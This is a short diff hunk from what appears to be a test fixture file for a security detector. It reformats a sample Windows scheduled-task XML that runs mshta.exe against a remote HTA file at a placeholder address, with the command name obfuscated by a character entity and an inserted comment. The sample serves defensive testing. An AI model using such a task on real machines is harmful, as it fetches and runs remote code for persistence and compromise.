@@ -119,9 +119,9 @@ ODD = {
     "task_of_two": (
         "task.xml",
         (
-            b'<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>notepad.exe</Command>'
-            b"</Exec><Exec><Arguments><![CDATA[http://192.0.2.1/a.hta]]></Arguments><Command>&#x6d;shta<!-- -->.exe</Command>"
-            b"</Exec></Actions></Task>"
+            b'<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec>'
+            b"<Command>notepad.exe</Command></Exec><Exec><Arguments><![CDATA[http://192.0.2.1/a.hta]]></Arguments>"
+            b"<Command>&#x6d;shta<!-- -->.exe</Command></Exec></Actions></Task>"
         ),
     ),
     "terminal_in_numbers": (
